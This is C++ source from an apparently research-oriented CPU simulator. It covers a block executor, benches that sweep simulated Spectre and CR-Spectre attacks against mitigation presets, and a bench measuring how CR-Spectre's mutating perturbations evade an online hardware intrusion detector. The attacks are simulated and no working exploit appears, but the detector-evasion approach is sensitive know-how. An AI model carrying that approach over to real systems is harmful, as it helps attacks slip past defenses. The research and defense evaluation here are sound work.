void MemoryHierarchy::flush_data(std::uint64_t addr) {
  l1d_.flush_line(addr);
  l2_.flush_line(addr);
}

void MemoryHierarchy::clear() {
  l1d_.clear();
  l1i_.clear();
  l2_.clear();
}

}  // namespace crs::sim
