#include "sim/block_exec.hpp"

#include "sim/block_cache.hpp"
#include "support/error.hpp"

// Computed-goto dispatch needs the GNU labels-as-values extension; a dense
// switch over the opcode is the portable fallback (and can be forced with
// -DCRS_BLOCK_SWITCH_DISPATCH to compile-test that path on GCC/Clang).
#if (defined(__GNUC__) || defined(__clang__)) && \
    !defined(CRS_BLOCK_SWITCH_DISPATCH)
#define CRS_BLOCK_THREADED 1
#else
#define CRS_BLOCK_THREADED 0
#endif

// The per-op exits (budget, cycle target, fetch-line turnover) fire at most
// once per ~dozens of ops; telling the compiler keeps the fall-through hot
// path straight-line.
#if defined(__GNUC__) || defined(__clang__)
#define CRS_LIKELY(x) __builtin_expect(!!(x), 1)
#define CRS_UNLIKELY(x) __builtin_expect(!!(x), 0)
#else
#define CRS_LIKELY(x) (x)
#define CRS_UNLIKELY(x) (x)
#endif

namespace crs::sim {

using isa::OpClass;
using isa::Opcode;

StopReason BlockExecutor::run(Cpu& cpu, std::uint64_t cycle_target,
                              std::uint64_t max_instructions) {
  BlockCache& cache = *cpu.bcache_;
  const std::uint64_t start_retired = cpu.retired_;
  while (!cpu.halted_) {
    const std::uint64_t done = cpu.retired_ - start_retired;
    if (done >= max_instructions) return StopReason::kInstructionLimit;
    if (cpu.cycle_ >= cycle_target) return StopReason::kCycleLimit;
    TranslatedBlock* block = nullptr;
    if ((cpu.pc_ % isa::kInstructionSize) == 0) {
      block = cache.acquire(cpu.pc_);
    }
    if (block == nullptr || block->empty()) {
      // Unaligned fetch target (ROP pivot), DEP fault, or a serialising /
      // illegal entry instruction: the interpreter step handles all of
      // these with identical semantics.
      cpu.step();
      continue;
    }
    exec_chain(cpu, cache, block, cycle_target, max_instructions - done);
  }
  return cpu.fault_.kind == FaultKind::kNone ? StopReason::kHalted
                                             : StopReason::kFault;
}

// Every handler below mirrors the matching Cpu::exec_* path operation for
// operation; any divergence is a bug the differential oracle will flag.
// pc/cycle live in locals so the compiler can keep them in registers across
// handlers; they are synced back to the Cpu members at every exit.

// Handler epilogue. In threaded mode the whole per-op prologue (limit
// checks, fetch, dispatch) is replicated into every handler so each opcode
// transition gets its own indirect-branch site — the branch predictor then
// learns per-predecessor successor patterns instead of sharing one
// unpredictable dispatch site (the standard direct-threading layout). The
// switch build keeps the shared loop head.
#if CRS_BLOCK_THREADED
#define CRS_NEXT()                             \
  do {                                         \
    ++op;                                      \
    if (CRS_UNLIKELY(op == stop)) goto body_stop; \
    if (CRS_UNLIKELY(cycle >= cycle_target)) goto sync_exit; \
    CRS_FETCH();                               \
    ++n_instr;                                 \
    goto* op->handler;                         \
  } while (0)
#else
#define CRS_NEXT() \
  do {             \
    ++op;          \
    goto loop_top; \
  } while (0)
#endif

// Cpu::set_ready, against the local cycle.
#define CRS_SET_READY(r, c)                                  \
  do {                                                       \
    const std::uint64_t ready_cycle = (c);                   \
    ready[(r)] = ready_cycle;                                \
    if (ready_cycle > cycle + rob_window) {                  \
      cycle = ready_cycle - rob_window;                      \
    }                                                        \
  } while (0)

// Per-instruction counters (retired, kInstructions, kAluOps, kL1iAccesses,
// kL1iMisses) accumulate in locals and land in one batched add per counter
// at every exit: nothing observes the PMU or retired_ mid-block (the same
// argument that lets kCycles sync at exits), and each flush is ordered
// before anything that could — fault delivery, tail helpers, returning.
// Every instruction performs exactly one fetch, so n_instr doubles as the
// kL1iAccesses delta; ALU ops (the bulk) are counted by complement — the
// rarer non-ALU handlers tick n_nonalu before any fault can exit them, so
// kAluOps = n_instr - n_nonalu even when an op faults mid-handler.
#define CRS_FLUSH_COUNTS()                                     \
  do {                                                         \
    cpu.retired_ += n_instr;                                   \
    if (n_instr != 0) {                                        \
      pmu.add(Event::kInstructions, n_instr);                  \
      pmu.add(Event::kL1iAccesses, n_instr);                   \
      const std::uint64_t flushed_alu = n_instr - n_nonalu;    \
      if (flushed_alu != 0) pmu.add(Event::kAluOps, flushed_alu); \
    }                                                          \
    if (n_imiss != 0) pmu.add(Event::kL1iMisses, n_imiss);     \
    n_instr = n_nonalu = n_imiss = 0;                          \
    if (pending_fetch_hits != 0) {                             \
      hierarchy.fetch_repeat_hits(pending_fetch_hits);         \
      pending_fetch_hits = 0;                                  \
    }                                                          \
  } while (0)

// Front-end fetch, exactly as Cpu::step (the DEP check happened at
// translation and is guarded by the page version). Consecutive fetches of
// one L1I line are guaranteed memo hits — nothing but fetches touches the
// L1I inside a block — so they accumulate in pending_fetch_hits and land in
// one access_repeat_hits call when the line changes or the block exits.
#define CRS_FETCH()                                        \
  do {                                                     \
    if (CRS_LIKELY((pc & fetch_line_mask) == fetch_line)) { \
      ++pending_fetch_hits;                                \
      cycle += fetch_hit_latency;                          \
    } else {                                               \
      if (pending_fetch_hits != 0) {                       \
        hierarchy.fetch_repeat_hits(pending_fetch_hits);   \
        pending_fetch_hits = 0;                            \
      }                                                    \
      fetch_line = pc & fetch_line_mask;                   \
      const auto fetch = hierarchy.access_fetch(pc);       \
      if (!fetch.l1i_hit) ++n_imiss;                       \
      cycle += fetch.latency;                              \
    }                                                      \
  } while (0)

// raise_fault records pc_, so sync before raising; pc still addresses the
// faulting instruction (handlers advance it only after all checks).
#define CRS_FAULT(kind, fault_addr)        \
  do {                                     \
    CRS_FLUSH_COUNTS();                    \
    cpu.pc_ = pc;                          \
    cpu.cycle_ = cycle;                    \
    cpu.raise_fault((kind), (fault_addr)); \
    goto pmu_sync;                         \
  } while (0)

// A store into the block's own code pages may have rewritten ops this
// translation still holds; bail after the store completes so the re-acquire
// sees the bumped page version and retranslates — the interpreter's
// next-fetch-sees-new-bytes behaviour.
#define CRS_SMC_CHECK(write_first_page, write_last_page)               \
  do {                                                                 \
    if ((write_first_page) <= span_last &&                             \
        (write_last_page) >= span_first) {                             \
      cache.note_smc_bailout();                                        \
      goto sync_exit;                                                  \
    }                                                                  \
  } while (0)

#define CRS_ALU_IMM(name, value_expr)           \
  CRS_OP(name) {                                \
    regs[op->rd] = (value_expr);                \
    CRS_SET_READY(op->rd, cycle + op->latency); \
    cycle += 1;                                 \
    pc += isa::kInstructionSize;                \
  }                                             \
  CRS_NEXT();

#define CRS_ALU_R1(name, value_expr)                    \
  CRS_OP(name) {                                        \
    const std::uint64_t a = regs[op->rs1];              \
    std::uint64_t issue = cycle;                        \
    if (ready[op->rs1] > issue) issue = ready[op->rs1]; \
    regs[op->rd] = (value_expr);                        \
    CRS_SET_READY(op->rd, issue + op->latency);         \
    cycle += 1;                                         \
    pc += isa::kInstructionSize;                        \
  }                                                     \
  CRS_NEXT();

#define CRS_ALU_RR(name, value_expr)                    \
  CRS_OP(name) {                                        \
    const std::uint64_t a = regs[op->rs1];              \
    const std::uint64_t b = regs[op->rs2];              \
    std::uint64_t issue = cycle;                        \
    if (ready[op->rs1] > issue) issue = ready[op->rs1]; \
    if (ready[op->rs2] > issue) issue = ready[op->rs2]; \
    regs[op->rd] = (value_expr);                        \
    CRS_SET_READY(op->rd, issue + op->latency);         \
    cycle += 1;                                         \
    pc += isa::kInstructionSize;                        \
  }                                                     \
  CRS_NEXT();

#if CRS_BLOCK_THREADED
#define CRS_OP(name) op_##name:
#define CRS_DISPATCH_BEGIN() goto* op->handler;
#define CRS_DISPATCH_END()
#else
#define CRS_OP(name) case Opcode::name:
#define CRS_DISPATCH_BEGIN() \
  switch (op->op) {          \
    default:                 \
      goto op_bad;
#define CRS_DISPATCH_END() }
#endif

void BlockExecutor::exec_chain(Cpu& cpu, BlockCache& cache,
                               TranslatedBlock* block,
                               std::uint64_t cycle_target,
                               std::uint64_t budget) {
  Memory& memory = cpu.memory_;
  MemoryHierarchy& hierarchy = cpu.hierarchy_;
  Pmu& pmu = cpu.pmu_;
  std::uint64_t* const regs = cpu.regs_;
  std::uint64_t* const ready = cpu.reg_ready_;
  const std::uint64_t rob_window = cpu.config_.rob_window;
  const bool slh = cpu.config_.slh;

  std::uint64_t pc = cpu.pc_;
  std::uint64_t cycle = cpu.cycle_;
  std::uint64_t remaining = budget;
  std::uint64_t n_instr = 0, n_nonalu = 0, n_imiss = 0;
  const std::uint64_t fetch_line_mask =
      ~static_cast<std::uint64_t>(hierarchy.l1i().line_size() - 1);
  const std::uint32_t fetch_hit_latency = hierarchy.timings().fetch_l1_hit;
  std::uint64_t fetch_line = ~0ull;  // never matches a masked pc
  std::uint64_t pending_fetch_hits = 0;

  const MicroOp* op = block->body.data();
  const MicroOp* end = op + block->body.size();
  // The instruction budget folds into the body-end compare: `stop` is where
  // the body must cease, whether that is the natural end (proceed to the
  // tail) or budget exhaustion (sync out). One pointer compare per op
  // replaces a decrement plus a second check; `remaining` is settled from
  // the op cursor at body_stop / tail time.
  const MicroOp* stop =
      remaining < static_cast<std::uint64_t>(end - op)
          ? op + remaining
          : end;
  std::uint64_t span_first = block->first_page;
  std::uint64_t span_last = block->last_page;

#if CRS_BLOCK_THREADED
  // Indexed by Opcode value; entries MUST follow the isa::Opcode order.
  // Non-body opcodes can never appear in a translated body.
  static const void* const kDispatch[] = {
      &&op_kNop,     &&op_bad,      // kNop, kHalt
      &&op_kMovImm,  &&op_kMov,     // data movement
      &&op_kAdd,     &&op_kSub,     &&op_kMul,     &&op_kDivu,
      &&op_kRemu,    &&op_kAnd,     &&op_kOr,      &&op_kXor,
      &&op_kShl,     &&op_kShr,     &&op_kSar,     // reg-reg ALU
      &&op_kAddImm,  &&op_kMulImm,  &&op_kAndImm,  &&op_kOrImm,
      &&op_kXorImm,  &&op_kShlImm,  &&op_kShrImm,  // reg-imm ALU
      &&op_kCmpLt,   &&op_kCmpLtu,  &&op_kCmpEq,   &&op_kCmpNe,
      &&op_kLoad,    &&op_kLoadB,   &&op_kStore,   &&op_kStoreB,
      &&op_bad,      &&op_bad,      &&op_bad,      &&op_bad,  // branches/jumps
      &&op_bad,      &&op_bad,      &&op_bad,      // calls, ret
      &&op_kPush,    &&op_kPop,
      &&op_bad,      &&op_bad,      &&op_kRdCycle,  // clflush, mfence
      &&op_bad,                                     // syscall
  };
  static_assert(sizeof(kDispatch) / sizeof(kDispatch[0]) ==
                static_cast<std::size_t>(Opcode::kOpcodeCount));

  // Direct threading: resolve every body op's handler label once per
  // translation (the label addresses are local to this function, so the
  // translator cannot); dispatch then loads the pointer straight off the op
  // instead of indexing the table through the opcode.
  if (!block->dispatch_ready) {
    for (MicroOp& o : block->body) {
      o.handler = kDispatch[static_cast<std::size_t>(o.op)];
    }
    block->dispatch_ready = true;
  }
#endif

  goto loop_top;  // threaded handlers re-dispatch themselves past this head
loop_top:
  if (op == stop) goto body_stop;
  if (cycle >= cycle_target) goto sync_exit;
  CRS_FETCH();
  ++n_instr;
  CRS_DISPATCH_BEGIN()

  CRS_OP(kNop) {
    ++n_nonalu;
    cycle += 1;
    pc += isa::kInstructionSize;
  }
  CRS_NEXT();

  CRS_ALU_IMM(kMovImm, static_cast<std::uint64_t>(op->imm))
  CRS_ALU_R1(kMov, a)
  CRS_ALU_RR(kAdd, a + b)
  CRS_ALU_RR(kSub, a - b)
  CRS_ALU_RR(kMul, a * b)
  CRS_ALU_RR(kDivu, b == 0 ? ~0ull : a / b)
  CRS_ALU_RR(kRemu, b == 0 ? a : a % b)
  CRS_ALU_RR(kAnd, a & b)
  CRS_ALU_RR(kOr, a | b)
  CRS_ALU_RR(kXor, a ^ b)
  CRS_ALU_RR(kShl, a << (b & 63))
  CRS_ALU_RR(kShr, a >> (b & 63))
  CRS_ALU_RR(kSar, static_cast<std::uint64_t>(
                       static_cast<std::int64_t>(a) >> (b & 63)))
  CRS_ALU_R1(kAddImm, a + static_cast<std::uint64_t>(op->imm))
  CRS_ALU_R1(kMulImm, a * static_cast<std::uint64_t>(op->imm))
  CRS_ALU_R1(kAndImm, a & static_cast<std::uint64_t>(op->imm))
  CRS_ALU_R1(kOrImm, a | static_cast<std::uint64_t>(op->imm))
  CRS_ALU_R1(kXorImm, a ^ static_cast<std::uint64_t>(op->imm))
  CRS_ALU_R1(kShlImm, a << (static_cast<std::uint64_t>(op->imm) & 63))
  CRS_ALU_R1(kShrImm, a >> (static_cast<std::uint64_t>(op->imm) & 63))
  CRS_ALU_RR(kCmpLt, static_cast<std::int64_t>(a) <
                             static_cast<std::int64_t>(b)
                         ? 1
                         : 0)
  CRS_ALU_RR(kCmpLtu, a < b ? 1 : 0)
  CRS_ALU_RR(kCmpEq, a == b ? 1 : 0)
  CRS_ALU_RR(kCmpNe, a != b ? 1 : 0)

  CRS_OP(kLoad) {
    ++n_nonalu;
    const std::uint64_t ea =
        regs[op->rs1] + static_cast<std::uint64_t>(op->imm);
    if (!memory.check(ea, 8, AccessKind::kRead)) {
      CRS_FAULT(FaultKind::kReadPermission, ea);
    }
    std::uint64_t issue = cycle;
    if (ready[op->rs1] > issue) issue = ready[op->rs1];
    const AccessOutcome outcome = hierarchy.access_data(ea);
    cpu.attribute_data_access(outcome);
    pmu.add(Event::kLoads);
    regs[op->rd] = memory.read_u64(ea);
    std::uint32_t latency = outcome.latency;
    if (slh) {
      latency += 1;
      ++cpu.mstats_.slh_hardened_loads;
    }
    CRS_SET_READY(op->rd, issue + latency);
    std::uint32_t throughput = 1;
    if (!outcome.l1_hit) throughput += outcome.l2_hit ? 2 : 6;
    cycle += throughput;
    pc += isa::kInstructionSize;
  }
  CRS_NEXT();

  CRS_OP(kLoadB) {
    ++n_nonalu;
    const std::uint64_t ea =
        regs[op->rs1] + static_cast<std::uint64_t>(op->imm);
    if (!memory.check(ea, 1, AccessKind::kRead)) {
      CRS_FAULT(FaultKind::kReadPermission, ea);
    }
    std::uint64_t issue = cycle;
    if (ready[op->rs1] > issue) issue = ready[op->rs1];
    const AccessOutcome outcome = hierarchy.access_data(ea);
    cpu.attribute_data_access(outcome);
    pmu.add(Event::kLoads);
    regs[op->rd] = static_cast<std::uint64_t>(memory.read_u8(ea));
    std::uint32_t latency = outcome.latency;
    if (slh) {
      latency += 1;
      ++cpu.mstats_.slh_hardened_loads;
    }
    CRS_SET_READY(op->rd, issue + latency);
    std::uint32_t throughput = 1;
    if (!outcome.l1_hit) throughput += outcome.l2_hit ? 2 : 6;
    cycle += throughput;
    pc += isa::kInstructionSize;
  }
  CRS_NEXT();

  CRS_OP(kStore) {
    ++n_nonalu;
    const std::uint64_t ea =
        regs[op->rs1] + static_cast<std::uint64_t>(op->imm);
    if (!memory.check(ea, 8, AccessKind::kWrite)) {
      CRS_FAULT(FaultKind::kWritePermission, ea);
    }
    const AccessOutcome outcome = hierarchy.access_data(ea);
    cpu.attribute_data_access(outcome);
    pmu.add(Event::kStores);
    memory.write_u64(ea, regs[op->rs2]);
    cycle += 1;
    pc += isa::kInstructionSize;
    CRS_SMC_CHECK(ea / Memory::kPageSize, (ea + 7) / Memory::kPageSize);
  }
  CRS_NEXT();

  CRS_OP(kStoreB) {
    ++n_nonalu;
    const std::uint64_t ea =
        regs[op->rs1] + static_cast<std::uint64_t>(op->imm);
    if (!memory.check(ea, 1, AccessKind::kWrite)) {
      CRS_FAULT(FaultKind::kWritePermission, ea);
    }
    const AccessOutcome outcome = hierarchy.access_data(ea);
    cpu.attribute_data_access(outcome);
    pmu.add(Event::kStores);
    memory.write_u8(ea, static_cast<std::uint8_t>(regs[op->rs2]));
    cycle += 1;
    pc += isa::kInstructionSize;
    CRS_SMC_CHECK(ea / Memory::kPageSize, ea / Memory::kPageSize);
  }
  CRS_NEXT();

  CRS_OP(kPush) {
    ++n_nonalu;
    const std::uint64_t new_sp = regs[isa::kStackPointer] - 8;
    if (!memory.check(new_sp, 8, AccessKind::kWrite)) {
      CRS_FAULT(FaultKind::kWritePermission, new_sp);
    }
    memory.write_u64(new_sp, regs[op->rs1]);
    regs[isa::kStackPointer] = new_sp;
    const AccessOutcome outcome = hierarchy.access_data(new_sp);
    cpu.attribute_data_access(outcome);
    pmu.add(Event::kStores);
    pmu.add(Event::kStackOps);
    cycle += 1;
    pc += isa::kInstructionSize;
    CRS_SMC_CHECK(new_sp / Memory::kPageSize,
                  (new_sp + 7) / Memory::kPageSize);
  }
  CRS_NEXT();

  CRS_OP(kPop) {
    ++n_nonalu;
    const std::uint64_t cur_sp = regs[isa::kStackPointer];
    if (!memory.check(cur_sp, 8, AccessKind::kRead)) {
      CRS_FAULT(FaultKind::kReadPermission, cur_sp);
    }
    const AccessOutcome outcome = hierarchy.access_data(cur_sp);
    cpu.attribute_data_access(outcome);
    pmu.add(Event::kLoads);
    regs[op->rd] = memory.read_u64(cur_sp);
    CRS_SET_READY(op->rd, cycle + outcome.latency);
    regs[isa::kStackPointer] = cur_sp + 8;
    pmu.add(Event::kStackOps);
    cycle += 1;
    pc += isa::kInstructionSize;
  }
  CRS_NEXT();

  CRS_OP(kRdCycle) {
    ++n_nonalu;
    regs[op->rd] = cycle;
    CRS_SET_READY(op->rd, cycle + 1);
    cycle += 1;
    pc += isa::kInstructionSize;
  }
  CRS_NEXT();

  CRS_DISPATCH_END()

op_bad:
  CRS_ENSURE(false, "non-body opcode in translated block");

body_stop:
  // Settle the budget: ops executed this block = cursor - body start.
  remaining -= static_cast<std::uint64_t>(op - block->body.data());
  if (op != end) goto sync_exit;  // budget exhausted mid-body

  if (!block->has_tail) goto sync_exit;
  if (remaining == 0) goto sync_exit;
  if (cycle >= cycle_target) goto sync_exit;
  CRS_FETCH();
  ++n_instr;
  ++n_nonalu;  // control flow retires as a branch event, never an ALU op
  --remaining;
  // Control flow runs on the interpreter's own helpers so prediction,
  // wrong-path episodes and mitigation semantics are literally shared code;
  // they operate on the members, so sync the locals (and the batched
  // counters) first.
  CRS_FLUSH_COUNTS();
  cpu.pc_ = pc;
  cpu.cycle_ = cycle;
  switch (block->tail.cls) {
    case OpClass::kCondBranch:
      cpu.exec_cond_branch(block->tail);
      break;
    case OpClass::kJump:
      cpu.cycle_ += 1;
      cpu.pc_ = static_cast<std::uint32_t>(block->tail.instr.imm);
      break;
    case OpClass::kIndirectJump:
      cpu.exec_indirect_jump(block->tail.instr);
      break;
    case OpClass::kCall:
    case OpClass::kIndirectCall:
      cpu.exec_call(block->tail.instr);
      break;
    case OpClass::kRet:
      cpu.exec_ret(block->tail.instr);
      break;
    default:
      break;  // translate_into only stores control-flow tails
  }
  // Chain: while the successor pc resolves to a valid fresh block, keep
  // going without returning — pc/cycle and the batched counters stay in
  // registers, and the per-call prologue is paid once per chain rather than
  // once per block. The acquire revalidates guards, so coherence is exactly
  // the caller-loop behaviour.
  if (cpu.halted_ || remaining == 0 || cpu.cycle_ >= cycle_target) {
    goto pmu_sync;
  }
  {
    const std::uint64_t next_pc = cpu.pc_;
    if ((next_pc % isa::kInstructionSize) != 0) goto pmu_sync;
    TranslatedBlock* next = cache.acquire(next_pc);
    if (next == nullptr || next->empty()) goto pmu_sync;
#if CRS_BLOCK_THREADED
    if (!next->dispatch_ready) {
      for (MicroOp& o : next->body) {
        o.handler = kDispatch[static_cast<std::size_t>(o.op)];
      }
      next->dispatch_ready = true;
    }
#endif
    block = next;
    op = next->body.data();
    end = op + next->body.size();
    stop = remaining < static_cast<std::uint64_t>(end - op) ? op + remaining
                                                            : end;
    span_first = next->first_page;
    span_last = next->last_page;
    pc = next_pc;
    cycle = cpu.cycle_;
    // A taken tail may have run wrong-path fetches through the L1I; the
    // same-line batching memo must restart from a full access.
    fetch_line = ~0ull;
    goto loop_top;
  }

sync_exit:
  CRS_FLUSH_COUNTS();
  cpu.pc_ = pc;
  cpu.cycle_ = cycle;

pmu_sync:
  // The interpreter syncs kCycles after every step; nothing observes the
  // PMU mid-block and cycle_ is monotonic, so syncing once at every block
  // exit yields the identical counter value.
  {
    const std::uint64_t pmu_cycles = pmu.count(Event::kCycles);
    if (cpu.cycle_ > pmu_cycles) {
      pmu.add(Event::kCycles, cpu.cycle_ - pmu_cycles);
    }
  }
}

#undef CRS_OP
#undef CRS_DISPATCH_BEGIN
#undef CRS_DISPATCH_END
#undef CRS_ALU_IMM
#undef CRS_ALU_R1
#undef CRS_ALU_RR
#undef CRS_SMC_CHECK
#undef CRS_FAULT
#undef CRS_FETCH
#undef CRS_FLUSH_COUNTS
#undef CRS_SET_READY
#undef CRS_NEXT
#undef CRS_LIKELY
#undef CRS_UNLIKELY

}  // namespace crs::sim
