// Defense matrix bench: the attack-vs-defense sweep as a tracked figure.
//
// Beyond the paper: the paper evaluates CR-Spectre against an HID on an
// otherwise undefended machine. This bench runs the full
// {plain Spectre, CR-Spectre} × {mitigation presets} matrix and prints
// leak rate, HID detection, mitigation engagement and clean-host IPC
// overhead per preset — the `none` column is the paper's leak-and-evade
// result, the rest is the defense story. With --bench-json the sweep's
// wall time and per-preset overheads land in the perf trajectory.
#include <cstdio>

#include "bench_util.hpp"
#include "core/defense_matrix.hpp"
#include "support/table.hpp"

int main(int argc, char** argv) {
  using namespace crs;
  bench::BenchIo io(argc, argv);
  bool quick = false;
  for (int i = 1; i < argc; ++i) {
    if (std::string(argv[i]) == "--quick") quick = true;
  }

  bench::WallTimer timer;
  bench::print_header(
      "Defense matrix — attacks × speculative-execution mitigations",
      "beyond the paper: §V context (defense-aware evasion), Kiriansky "
      "fences, Ward split");

  core::DefenseMatrixConfig cfg;
  cfg.quick = quick;
  const core::DefenseMatrixResult result = core::run_defense_matrix(cfg);

  std::vector<std::string> header{"attack \\ preset"};
  for (const auto& p : result.presets) header.push_back(p);
  Table table(header);
  for (const auto& attack : result.attacks) {
    std::vector<std::string> row{attack};
    for (const auto& preset : result.presets) {
      const auto& c = result.cell(attack, preset);
      row.push_back(fixed(c.leak_rate, 2) + "/" + fixed(c.hid_detection, 2));
    }
    table.add_row(row);
  }
  {
    std::vector<std::string> row{"ipc overhead %"};
    for (std::size_t i = 0; i < result.presets.size(); ++i) {
      row.push_back(fixed(result.ipc_overhead_pct[i], 2));
    }
    table.add_row(row);
  }
  std::printf("%s\n(cells: leak rate / HID detection over attack windows)\n",
              table.render().c_str());

  // Shape checks mirror the crs_matrix --check gate.
  bool none_leaks = true, full_blocks = true, armed_engaged = true;
  for (const auto& attack : result.attacks) {
    none_leaks = none_leaks && result.cell(attack, "none").leaks > 0;
    full_blocks = full_blocks && result.cell(attack, "full").leaks == 0;
  }
  for (const auto& preset : result.presets) {
    if (preset == "none") continue;
    armed_engaged =
        armed_engaged && result.preset_summary(preset).total_events() > 0;
  }
  bench::shape_check("undefended ('none') leaks the secret on every attack",
                     none_leaks);
  bench::shape_check("'full' preset blocks every modeled attack", full_blocks);
  bench::shape_check("every armed preset reports mitigation activity",
                     armed_engaged);
  bench::shape_check(
      "CR-Spectre evades the HID that catches plain Spectre (none column)",
      result.cell("cr-spectre", "none").hid_detection <
          result.cell("spectre-pht", "none").hid_detection);

  const double wall = timer.ms();
  std::printf("wall: %.0f ms (%zu cells)\n", wall, result.cells.size());
  io.emit("defense_matrix", wall,
          static_cast<double>(result.cells.size()) / (wall / 1e3));
  for (std::size_t i = 0; i < result.presets.size(); ++i) {
    io.emit("defense_matrix:ipc_overhead:" + result.presets[i],
            result.ipc_overhead_pct[i], 0.0);
  }
  return none_leaks && full_blocks && armed_engaged ? 0 : 1;
}
