// Figure 6: online-learning HID vs (a) traditional Spectre and (b)
// CR-Spectre with defense-aware dynamic perturbation.
//
// Paper setting (§II-E, §III-B2): after every attempt the HID retrains on
// the newly profiled traces (online learning); the attacker mutates the
// perturbation parameters whenever it was detected (accuracy > 80%).
// Expected shapes: (a) the retrained HID stays high and level on the
// unchanging standalone Spectre; (b) detection oscillates — the HID
// recovers after retraining on a variant, the mutation drops it again,
// with minima far below the 55% evasion threshold (paper: down to 16%).
#include <cstdio>

#include "bench_util.hpp"
#include "core/campaign.hpp"
#include "hid/features.hpp"
#include "ml/mlp.hpp"
#include "support/table.hpp"

int main(int argc, char** argv) {
  using namespace crs;
  bench::BenchIo io(argc, argv);
  bench::WallTimer timer;
  bench::print_header("Fig. 6 — online HID: Spectre vs dynamic CR-Spectre",
                      "Figure 6(a) and 6(b), 10 attempts x 4 classifiers");

  const auto cc = bench::paper_corpus_config();
  const auto benign = core::build_benign_corpus(cc);
  const auto attack = core::build_attack_corpus(cc);

  const auto zoo = ml::classifier_zoo();

  for (const bool cr_spectre : {false, true}) {
    std::printf(cr_spectre
                    ? "--- Fig. 6(b): CR-Spectre with dynamic perturbation "
                      "('*' = attacker mutated after the attempt) ---\n"
                    : "--- Fig. 6(a): traditional Spectre, online HID ---\n");
    std::vector<std::string> header{"classifier"};
    for (int a = 1; a <= 10; ++a) header.push_back("a" + std::to_string(a));
    header.push_back("min");
    Table table(header);

    double min_of_means = 1.0;
    double lowest = 1.0;
    bool any_recovery = false;
    // Online campaigns are serial inside (the detector refits after every
    // attempt), but the four classifiers are independent: run the zoo on
    // the pool and render rows in zoo order below.
    ThreadPool pool;
    const auto results = parallel_map<core::CampaignResult>(
        pool, zoo.size(), [&](std::size_t zi) {
          core::CampaignConfig cfg;
          cfg.scenario.rop_injected = cr_spectre;
          cfg.scenario.perturb = cr_spectre;
          // Initial variant: a diluted style; mutation explores from here.
          cfg.scenario.perturb_params.delay = 2000;
          cfg.scenario.perturb_params.loop_count = 16;
          cfg.detector.classifier = zoo[zi];
          cfg.detector.features = hid::paper_feature_indices();
          cfg.detector.online_mode = hid::OnlineMode::kIncremental;
          cfg.online_hid = true;
          cfg.dynamic_perturbation = cr_spectre;
          cfg.attempts = 10;
          cfg.seed = 99 + (cr_spectre ? 1000 : 0);
          return core::run_campaign(cfg, benign, attack);
        });
    for (std::size_t zi = 0; zi < zoo.size(); ++zi) {
      const auto& kind = zoo[zi];
      const auto& r = results[zi];

      std::vector<std::string> row{kind};
      for (const auto& a : r.attempts) {
        row.push_back(bench::pct(a.detection_rate) +
                      (a.mutated_after ? "*" : ""));
      }
      row.push_back(bench::pct(r.min_detection()));
      table.add_row(row);
      io.emit_attempts(std::string("fig6_") +
                           (cr_spectre ? "crspectre" : "spectre") + ":" + kind,
                       r);
      min_of_means = std::min(min_of_means, r.mean_detection());
      lowest = std::min(lowest, r.min_detection());
      any_recovery |= r.max_detection() > 0.80 && r.min_detection() < 0.55;
    }
    std::printf("%s\n", table.render().c_str());
    if (!cr_spectre) {
      bench::shape_check(
          "online HID keeps standalone Spectre detection high and level",
          min_of_means > 0.85);
    } else {
      bench::shape_check(
          "dynamic CR-Spectre dips below the 55% evasion threshold "
          "(paper: minima ~16%)",
          lowest < 0.55);
      bench::shape_check(
          "online HID partially recovers between mutations (oscillation)",
          any_recovery);
    }
    std::printf("\n");
  }
  // 2 figure panels x 4 classifiers x 10 attempts.
  io.emit("fig6_online_hid", timer.ms(), 80.0 / (timer.ms() / 1e3));
  return 0;
}
