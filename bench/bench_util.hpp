// Shared helpers for the figure/table benches.
#pragma once

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <string>

#include "core/campaign.hpp"
#include "core/corpus.hpp"
#include "core/report.hpp"
#include "support/parallel.hpp"
#include "support/strings.hpp"

namespace crs::bench {

/// Common bench CLI flags, stripped from argv before anything else parses
/// it: `--threads N` installs a process-wide worker-count override (beats
/// CRS_THREADS) and `--bench-json <path>` enables machine-readable perf
/// records — one JSON line per benchmark appended to <path>, so future PRs
/// can track the trajectory in BENCH_*.json files.
class BenchIo {
 public:
  BenchIo(int& argc, char** argv) {
    int out = 1;
    for (int i = 1; i < argc; ++i) {
      const std::string arg = argv[i];
      if (arg == "--threads" && i + 1 < argc) {
        set_thread_override(
            static_cast<unsigned>(std::strtoul(argv[++i], nullptr, 10)));
      } else if (arg.rfind("--threads=", 0) == 0) {
        set_thread_override(static_cast<unsigned>(
            std::strtoul(arg.c_str() + 10, nullptr, 10)));
      } else if (arg == "--bench-json" && i + 1 < argc) {
        json_path_ = argv[++i];
      } else if (arg.rfind("--bench-json=", 0) == 0) {
        json_path_ = arg.substr(13);
      } else {
        argv[out++] = argv[i];
      }
    }
    argc = out;
  }

  bool json_enabled() const { return !json_path_.empty(); }
  const std::string& json_path() const { return json_path_; }

  /// Appends `{"name":...,"wall_ms":...,"items_per_s":...,"config":{...}}`
  /// to the JSON file; no-op when --bench-json was not given. The config
  /// object records the process-wide defaults (threads, snapshot, exec
  /// engine, mitigations) — benchmarks that pin a different engine per arg
  /// encode the variant in the name, as BM_CpuThroughput does.
  void emit(const std::string& name, double wall_ms,
            double items_per_s) const {
    if (json_path_.empty()) return;
    std::FILE* f = std::fopen(json_path_.c_str(), "a");
    if (f == nullptr) return;
    std::fprintf(f,
                 "{\"name\":\"%s\",\"wall_ms\":%.3f,\"items_per_s\":%.3f,"
                 "\"config\":%s}\n",
                 name.c_str(), wall_ms, items_per_s,
                 core::bench_config_json().c_str());
    std::fclose(f);
  }

  /// One JSON line per campaign attempt with wall and simulated time — the
  /// only surface AttemptRecord::wall_ms ever reaches (the obs registry and
  /// traces stay wall-clock-free by contract).
  void emit_attempts(const std::string& name,
                     const core::CampaignResult& result) const {
    if (json_path_.empty()) return;
    std::FILE* f = std::fopen(json_path_.c_str(), "a");
    if (f == nullptr) return;
    const std::string config = core::bench_config_json();
    for (const auto& a : result.attempts) {
      std::fprintf(f,
                   "{\"name\":\"%s:attempt%d\",\"wall_ms\":%.3f,"
                   "\"sim_cycles\":%llu,\"detection_rate\":%.6f,"
                   "\"config\":%s}\n",
                   name.c_str(), a.attempt, a.wall_ms,
                   static_cast<unsigned long long>(a.sim_cycles),
                   a.detection_rate, config.c_str());
    }
    std::fclose(f);
  }

 private:
  std::string json_path_;
};

/// Wall-clock stopwatch for whole-figure timing.
class WallTimer {
 public:
